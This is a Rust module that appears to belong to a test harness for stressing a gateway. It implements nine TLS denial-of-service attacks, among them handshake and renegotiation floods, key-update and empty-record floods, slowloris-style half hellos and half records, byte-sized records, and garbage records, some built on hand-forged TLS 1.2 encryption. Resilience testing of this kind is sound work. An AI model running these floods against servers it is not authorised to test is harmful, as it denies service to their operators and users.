//! Handshakes and records of TLS.

use std::io::{self, Read as _, Write as _};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use aws_lc_rs::aead::{AES_128_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
use rustls::crypto::CryptoProvider;
use rustls::crypto::aws_lc_rs::cipher_suite::TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256;
use rustls::crypto::aws_lc_rs::default_provider;
use rustls::version::{TLS12, TLS13};
use rustls::{ClientConfig, ConnectionTrafficSecrets};

use crate::attack::{Attack, Play};
use crate::http::{get, put, read_response};
use crate::scene::{Scene, is_timeout};
use crate::stream::{TlsStream, client};

pub const ATTACKS: &[Attack] = &[
    Attack::new("tls-abandoned", "handshakes that end after the hello", abandoned).with_tls(),
    Attack::new("tls-silent", "2,000 connections with half a hello", silent).with_tls(),
    Attack::new("tls-handshakes", "full handshakes, one after the other", handshakes).with_tls(),
    Attack::new("tls-renegotiation", "requests to renegotiate (TLS 1.2)", renegotiation).with_tls(),
    Attack::new("tls-key-updates", "endless updates of the keys (TLS 1.3)", key_updates).with_tls(),
    Attack::new("tls-empty-records", "endless empty records (TLS 1.2)", empty_records).with_tls(),
    Attack::new("tls-half-records", "half a record on each of 2,000 kept connections", half_records)
        .with_tls(),
    Attack::new("tls-tiny-records", "bodies in records of one byte", tiny_records).with_tls().stores_mib(8),
    Attack::new("tls-garbage", "records that cannot be decrypted", garbage).with_tls(),
];

/// Type of a record.
const HANDSHAKE: u8 = 22;
const DATA: u8 = 23;

fn pause() -> Duration {
    Duration::from_millis(1)
}

/// A hello of TLS 1.3.
fn hello(config: &Arc<ClientConfig>, scene: &Scene) -> io::Result<Vec<u8>> {
    let mut tls = client(config.clone(), scene.connect()?)?;
    let mut hello = Vec::new();
    while tls.conn.wants_write() {
        tls.conn.write_tls(&mut hello)?;
    }
    Ok(hello)
}

/// A connection after its handshake.
fn connect(config: &Arc<ClientConfig>, scene: &Scene) -> io::Result<TlsStream> {
    let mut stream = client(config.clone(), scene.connect()?)?;
    while stream.conn.is_handshaking() {
        stream.conn.complete_io(&mut stream.sock)?;
    }
    Ok(stream)
}

fn abandoned(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    let hello = hello(&config, scene)?;
    Ok(Box::new(move |scene| {
        scene.threads(8, |number| {
            while !scene.is_over() {
                let Ok(mut stream) = scene.connect() else { continue };
                if stream.write_all(&hello).is_ok() && number % 2 == 0 {
                    // Lets the server do its part. A reset of the connection may come first.
                    let _ = stream.read(&mut [0; 1024]);
                }
            }
        });
    }))
}

fn silent(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    let hello = hello(&config, scene)?;
    let half = hello[..hello.len() / 2].to_vec();
    Ok(Box::new(move |scene| scene.hold(2_000, &half)))
}

fn handshakes(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13, &TLS12])?);
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                if connect(&config, scene).is_err() {
                    scene.pause(pause());
                }
            }
        });
    }))
}

/// Encrypts records of TLS 1.2 that rustls would not send.
struct Records {
    key: LessSafeKey,
    iv: [u8; 12],
    sequence: u64,
}

impl Records {
    /// Takes over a connection. `None` if it does not use the expected suite.
    fn of(stream: TlsStream) -> Option<(Self, std::net::TcpStream)> {
        let (tls, socket) = stream.into_parts();
        let (sequence, secrets) = tls.dangerous_extract_secrets().ok()?.tx;
        let ConnectionTrafficSecrets::Aes128Gcm { key, iv } = secrets else { return None };
        let key = LessSafeKey::new(UnboundKey::new(&AES_128_GCM, key.as_ref()).ok()?);
        let iv = iv.as_ref().try_into().ok()?;
        Some((Self { key, iv, sequence }, socket))
    }

    fn next(&mut self, kind: u8, payload: &[u8]) -> Vec<u8> {
        let mut nonce = self.iv;
        for (byte, other) in nonce[4..].iter_mut().zip(self.sequence.to_be_bytes()) {
            *byte ^= other;
        }
        let length = (payload.len() as u16).to_be_bytes();
        let header = [&self.sequence.to_be_bytes()[..], &[kind, 3, 3], &length].concat();
        let mut sealed = payload.to_vec();
        let nonce_bytes = Nonce::assume_unique_for_key(nonce);
        if self.key.seal_in_place_append_tag(nonce_bytes, Aad::from(header), &mut sealed).is_err() {
            return Vec::new();
        }
        self.sequence += 1;
        let length = (8 + sealed.len() as u16).to_be_bytes();
        [&[kind, 3, 3][..], &length, &nonce[4..], &sealed].concat()
    }
}

/// Sends records of one kind on connections with TLS 1.2 until the gateway ends them.
fn flood_records(scene: &Scene, kind: u8, payload: Vec<u8>) -> Result<Play> {
    let cipher_suites = vec![TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256];
    let provider = CryptoProvider { cipher_suites, ..default_provider() };
    let mut config = scene.target.attacker_config_with(provider, &[&TLS12])?;
    config.enable_secret_extraction = true;
    let config = Arc::new(config);
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                let Some((mut records, mut socket)) = connect(&config, scene).ok().and_then(Records::of)
                else {
                    scene.pause(pause());
                    continue;
                };
                let mut batch = || (0..64).flat_map(|_| records.next(kind, &payload)).collect::<Vec<u8>>();
                while !scene.is_over() && scene.send(&mut socket, &batch()).is_ok() {}
            }
        });
    }))
}

fn renegotiation(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS12])?);
    // The message without the header of its record.
    let message = hello(&config, scene)?.split_off(5);
    flood_records(scene, HANDSHAKE, message)
}

fn empty_records(scene: &Scene) -> Result<Play> {
    flood_records(scene, DATA, Vec::new())
}

fn key_updates(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                let Ok(mut stream) = connect(&config, scene) else { continue };
                while !scene.is_over() {
                    let updated = (0..64).all(|_| stream.conn.refresh_traffic_keys().is_ok());
                    if !updated || stream.flush().is_err() {
                        break;
                    }
                }
            }
        });
    }))
}

fn half_records(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    let count = if scene.is_quick { 500 } else { 2_000 };
    // The header of a record of 16 KiB, and all but one KiB of it.
    let record = [&[DATA, 3, 3, 0x40, 0][..], &[7; 15 << 10]].concat();
    Ok(Box::new(move |scene| {
        let mut all: Vec<Option<TlsStream>> = (0..count).map(|_| None).collect();
        while !scene.is_over() {
            for slot in &mut all {
                if scene.is_over() {
                    return;
                }
                // Anything that the gateway sends is an alert or a refusal.
                let is_open = slot
                    .as_ref()
                    .is_some_and(|stream| stream.sock.peek(&mut [0]).is_err_and(|error| is_timeout(&error)));
                if is_open {
                    continue;
                }
                // Kept after a request, as those of a client that pushes often.
                *slot = connect(&config, scene).ok().and_then(|mut stream| {
                    stream.write_all(&get("/-/healthy")).ok()?;
                    let mut reader = io::BufReader::new(stream);
                    read_response(&mut reader, b"GET", None).ok()?;
                    let mut stream = reader.into_inner();
                    stream.sock.write_all(&record).ok()?;
                    stream.sock.set_nonblocking(true).ok().map(|()| stream)
                });
            }
            scene.pause(Duration::from_millis(20));
        }
    }))
}

fn tiny_records(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    let body = "# comment\n".repeat(2_000) + "attack_tiny 1\n";
    let request = put("/metrics/job/attack", body);
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                let Ok(mut stream) = connect(&config, scene) else { continue };
                while !scene.is_over() {
                    let written = request.iter().all(|byte| stream.conn.writer().write_all(&[*byte]).is_ok());
                    if !written || stream.flush().is_err() {
                        break;
                    }
                    match stream.read(&mut [0; 4096]) {
                        Ok(1..) => {}
                        Err(error) if is_timeout(&error) => {}
                        _ => break,
                    }
                }
            }
        });
    }))
}

fn garbage(scene: &Scene) -> Result<Play> {
    let config = Arc::new(scene.target.attacker_config(&[&TLS13])?);
    let record = [&[DATA, 3, 3, 0x20, 0][..], &[7; 8 << 10]].concat();
    Ok(Box::new(move |scene| {
        scene.threads(8, |_| {
            while !scene.is_over() {
                let Ok(mut stream) = connect(&config, scene) else { continue };
                let _ = stream.sock.write_all(&record);
                // The alert, and the end.
                let _ = stream.read(&mut [0; 64]);
            }
        });
    }))
}
